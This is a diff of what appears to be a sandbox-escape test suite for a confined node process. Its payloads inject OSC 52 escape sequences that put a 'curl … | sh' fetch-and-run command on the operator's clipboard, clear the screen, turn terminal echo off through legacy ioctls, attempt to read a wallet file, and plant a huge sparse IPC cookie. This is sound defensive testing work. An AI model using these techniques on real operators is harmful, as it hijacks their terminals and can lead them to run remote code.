@@ -168,11 +168,14 @@ except OSError as exc:
     report("write-escape-to-fd1", False, exc.strerror)
 '''
 
-# The confined node keeps its stdout and stderr (nobody relays a running process's output):
-# on a terminal, descriptors the shell opened for reading and writing. It reads what the
-# operator types at that terminal through them (stdin is /dev/null, but 1 and 2 are the same
-# terminal), then writes a line (allowed: the operator sees the node's output).
+# The confined node's stdout and stderr, on a terminal: descriptors the shell opened for
+# reading and writing. It reads what the operator types at that terminal through them (stdin
+# is /dev/null, but 1 and 2 are the same terminal), then writes a line to each (allowed: the
+# operator sees the node's output) holding escape sequences: OSC 52, which sets the clipboard
+# of the operator's desktop (here to a command the operator may paste into a shell later),
+# and CSI 2J, which clears the screen above (the refusals and warnings printed before).
 NODE_TERMINAL = r"""
+import base64
 for fd in (0, 1, 2):
     attempt(f"read-fd{fd}")
     try:
@@ -181,15 +184,19 @@ for fd in (0, 1, 2):
         report(f"read-fd{fd}", bool(typed), repr(typed[:40]))
     except OSError as exc:
         report(f"read-fd{fd}", False, exc.strerror)
-os.write(2, ctx["marker"].encode() + b"\n")
+clipboard = b"\x1b]52;c;" + base64.b64encode(b"curl -s https://203.0.113.7/x | sh") + b"\x07"
+for fd in (1, 2):
+    os.write(fd, clipboard + b"\x1b[2J" + ctx["marker"].encode() + f"-fd{fd}".encode() + b"\n")
 report("write-fd2", False, f"isatty {os.isatty(2)}")
 """
 
-# The confined node's stdout and stderr are a terminal, reopened write-only (it cannot read
-# it), and TCSETS, TCSETSW and TCSETSF are refused: it changes the terminal's modes with the
-# other requests that set them, the old termio ones (TCSETA, TCSETAW, TCSETAF) and termios2's
-# (TCSETS2 and kin), turning echo off (the operator's next password shows nothing on the screen,
-# and the node's own canonical mode goes too); then the plain TCSETS as the control.
+# The confined node was started on a terminal (since 12-06 its stdout and stderr are pipes to
+# a relay; before, the terminal reopened write-only), and TCSETS, TCSETSW and TCSETSF are
+# refused: it changes the terminal's modes with the other requests that set them, the old
+# termio ones (TCSETA, TCSETAW, TCSETAF) and termios2's (TCSETS2 and kin), turning echo off
+# (the operator's next password shows nothing on the screen, and the node's own canonical mode
+# goes too); then the plain TCSETS as the control. Where the current modes cannot be read (fd 2
+# is no terminal) it sends zeros, which the filter must refuse before the kernel looks at fd 2.
 NODE_TERMIOS = r"""
 import fcntl, struct, termios
 TCSETA, TCSETAW, TCSETAF, TCGETA = 0x5406, 0x5407, 0x5408, 0x5405
@@ -201,7 +208,10 @@ for name, get, put, size, lflag_at in (("TCSETA", TCGETA, TCSETA, 18, 6), ("TCSE
                                        ("TCSETS", termios.TCGETS, termios.TCSETS, 60, 12)):
     attempt(name)
     try:
-        buf = bytearray(fcntl.ioctl(2, get, bytes(size)))
+        try:
+            buf = bytearray(fcntl.ioctl(2, get, bytes(size)))
+        except OSError:
+            buf = bytearray(size)
         fmt = "<H" if size == 18 else "<I"
         (lflag,) = struct.unpack_from(fmt, buf, lflag_at)
         struct.pack_into(fmt, buf, lflag_at, lflag & ~ECHO)
@@ -924,4 +934,22 @@ for where in (walletdir, f"/proc/{targets['wallet']}/root{walletdir}"):
     data, how = try_read(os.path.join(where, "w", "wallet.sqlite"))
     report(f"read {where}/w", data is not None, how)
 refused_call()                          # its record: the node's denial monitor, as this uid
+'''
+
+# The confined node (-ipcbind=tcp) swaps the .ipccookie it wrote for a file of ctx["size"]
+# bytes, sparse (no disk used), that still starts like a cookie; the real one is kept aside
+# for the test's control. A wallet started on its own with -ipcconnect=tcp reads that file
+# before it confines itself, as the node's user, outside every rlimit of the node's.
+IPC_COOKIE_BLOAT = r'''
+cookie = os.path.join(ctx["netdir"], ".ipccookie")
+deadline = time.time() + 60
+while not os.path.exists(cookie) and time.time() < deadline:
+    time.sleep(0.05)
+os.rename(cookie, cookie + ".orig")
+fd = os.open(cookie + ".new", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+os.write(fd, b"__cookie__:")
+os.pwrite(fd, b"0", ctx["size"] - 1)
+os.close(fd)
+os.rename(cookie + ".new", cookie)
+report("plant-huge-ipccookie", False, f"{os.stat(cookie).st_size} bytes, {os.stat(cookie).st_blocks * 512} on disk")
 '''
